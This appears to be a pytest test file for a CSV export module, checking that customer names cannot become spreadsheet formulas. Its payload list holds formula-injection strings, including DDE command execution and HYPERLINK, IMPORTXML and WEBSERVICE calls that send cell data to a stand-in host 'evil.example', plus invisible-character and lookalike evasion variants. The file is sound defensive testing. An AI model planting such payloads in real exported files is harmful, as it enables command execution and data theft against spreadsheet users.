"""Whatever a customer calls themselves, no spreadsheet executes it."""

import csv
import io
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime

import pytest

from regulars.app import spreadsheets
from regulars.app.spreadsheets import Cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "+1",
    "|calc",
    "%0A=1+1",
    "==1",
    "=\t1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d2+3",
    "\uff20SUM(1)",
    "\u22121+1",
    "=",
]
LEAD_INS = ["", "\t", "\r", "\n", " ", "\x00", "\u200b", "\ufeff", "\u00a0", '"', "'", " \t\u3000", "\u2066"]
PAYLOADS = [lead + formula for lead in LEAD_INS for formula in FORMULAS[:7]] + FORMULAS[7:]


def read(chunk: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(chunk.decode("utf-8-sig"), newline="")))


def begins_a_formula(cell: str) -> bool:
    """As the most careless program would see it: whatever nobody sees, and quotes, skipped."""
    visible = cell.lstrip(' \t\r\n\x00\u200b\ufeff\u00a0\u3000\u2066"`')
    return visible[:1] in set("=+-@|%\uff1d\uff0b\uff0d\uff20\u2212") and visible != ""


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_begins_a_formula(payload: str) -> None:
    (row,) = read(spreadsheets.line((payload, payload, 7)))
    assert len(row) == 3
    assert not any(begins_a_formula(cell) for cell in row[:2]), row
    assert row[2] == "7"


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r"], ids=ascii)
@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_none_does_where_a_program_splits_cells_elsewhere(separator: str, formula: str) -> None:
    text = f"Jane{separator}{formula}"
    written = spreadsheets.harmless(text)
    assert not any(begins_a_formula(cell) for cell in written.split(separator)), written


@pytest.mark.parametrize(
    "text",
    [
        "Jane Doe",
        "Jürgen “Jo” Müller",
        "jane+tea@example.com",
        "O'Brien",
        "Anne-Marie",
        "3 = three",
        "",
        "李雷",
    ],
)
def test_plain_texts_stay_as_they_are(text: str) -> None:
    assert read(spreadsheets.line((text,))) == [[text]]


def test_numbers_and_times_stay_numbers_and_times() -> None:
    at = datetime(2026, 3, 2, 12, tzinfo=UTC)
    assert spreadsheets.line((-5, None, date(2026, 3, 2), at)) == (
        b'"-5","","2026-03-02","2026-03-02T12:00:00+00:00"\r\n'
    )


def test_every_cell_is_quoted_and_quotes_are_doubled() -> None:
    assert spreadsheets.line(('say "hi", twice', 1)) == b'"say ""hi"", twice","1"\r\n'


def test_a_lone_surrogate_does_not_break_the_file() -> None:
    assert spreadsheets.line(("a\ud800b",)) == b'"a?b"\r\n'


async def test_a_stream_is_the_same_file_as_a_table() -> None:
    rows: list[list[Cell]] = [["a", 1], ["b", 2], ["c", 3]]

    async def pages() -> AsyncIterator[Sequence[Sequence[Cell]]]:
        yield rows[:2]
        yield rows[2:]

    streamed = [chunk async for chunk in spreadsheets.stream(("Name", "Number"), pages())]
    assert b"".join(streamed) == spreadsheets.table(("Name", "Number"), rows)
    assert len(streamed) == 3
